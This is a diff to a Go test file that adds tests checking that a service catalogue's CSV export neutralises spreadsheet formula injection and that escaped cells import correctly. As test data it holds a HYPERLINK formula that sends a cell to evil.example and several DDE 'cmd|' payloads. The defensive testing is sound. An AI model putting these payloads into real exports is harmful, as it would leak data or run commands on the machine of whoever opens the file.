@@ -2,6 +2,7 @@ package catalogue_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"os"
@@ -459,5 +460,75 @@ func TestOptionalArabicColumns(t *testing.T) {
 	}
 	if _, err := catalogue.ReadCSV(strings.NewReader("address_en,"+head+"\nx,"+strings.Join(row, ",")+"\n"), "bad.csv"); err == nil {
 		t.Fatal("an unknown column was accepted")
+	}
+}
+
+// The audit exported a service named =HYPERLINK(…): the cell went out as is
+// and became a formula in the spreadsheet of whoever opened the export.
+func TestWriteCSVNeutralisesFormulas(t *testing.T) {
+	lon, lat := -5.37, 35.57
+	attack := map[string]string{ // field -> value
+		"service_name_fr": `=HYPERLINK("http://evil.example/?d="&A1,"clic")`,
+		"description_fr":  `+cmd|' /C calc'!A0`,
+		"description_ar":  "-2+3+cmd|' /C calc'!A0",
+		"conditions_fr":   "@SUM(1+1)*cmd|' /C calc'!A0",
+		"conditions_ar":   "'=already escaped by hand", // really starts with a quote
+		"address":         "''+two quotes",
+		"city":            "'quoted, not a formula",
+		"hours":           "-",
+		"org_name_ar":     "=1+1",
+	}
+	s := &catalogue.Service{ID: "svc-1", Org: catalogue.Organisation{ID: "org-1", NameFR: "Org", NameAR: attack["org_name_ar"], Kind: "association"},
+		NameFR: attack["service_name_fr"], DescriptionFR: attack["description_fr"], DescriptionAR: attack["description_ar"],
+		ConditionsFR: attack["conditions_fr"], ConditionsAR: attack["conditions_ar"], Address: attack["address"], City: attack["city"],
+		Hours: attack["hours"], Needs: []string{"training"}, Provinces: []string{"tetouan"}, Phone: "+212539000001",
+		Latitude: &lat, Longitude: &lon, Active: true}
+	var b bytes.Buffer
+	if err := catalogue.WriteCSV(&b, []*catalogue.Service{s}); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("export: %v %v", recs, err)
+	}
+	cell := map[string]string{}
+	for i, name := range recs[0] {
+		cell[name] = recs[1][i]
+	}
+	for name, v := range cell {
+		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) && name != "phone" && name != "longitude" {
+			t.Errorf("%s exported as %q: a spreadsheet runs it as a formula", name, v)
+		}
+	}
+	for name, v := range attack {
+		if want := "'" + v; (v[0] != '\'' || name == "conditions_ar" || name == "address") && cell[name] != want {
+			t.Errorf("%s: exported %q, want %q", name, cell[name], want)
+		}
+	}
+	if cell["city"] != attack["city"] {
+		t.Errorf("a quote before plain text was changed: %q", cell["city"])
+	}
+	// Numbers cannot call anything: phones and coordinates stay as they are.
+	if cell["phone"] != "+212539000001" || cell["longitude"] != "-5.37" {
+		t.Errorf("phone %q, longitude %q", cell["phone"], cell["longitude"])
+	}
+	// Import gives every value back exactly.
+	got := roundTrip(t, []*catalogue.Service{s})
+	if !reflect.DeepEqual([]*catalogue.Service{s}, got) {
+		t.Fatalf("round trip differs:\n%+v\n%+v", s, got[0])
+	}
+}
+
+// A file escaped by another tool ('+212…, '-5.5) imports as the values.
+func TestReadCSVTakesEscapedCells(t *testing.T) {
+	services, err := catalogue.ReadCSV(strings.NewReader(csvOf(
+		with(validRow(), "phone", "'+212 539-00 00 01", "longitude", "'-5.5", "latitude", "35.5", "service_name_fr", "'=1+1", "city", "'Tanger"),
+	)), "cat.csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := services[0]
+	if s.Phone != "+212539000001" || *s.Longitude != -5.5 || s.NameFR != "=1+1" || s.City != "'Tanger" {
+		t.Fatalf("read %q %v %q %q", s.Phone, *s.Longitude, s.NameFR, s.City)
 	}
 }
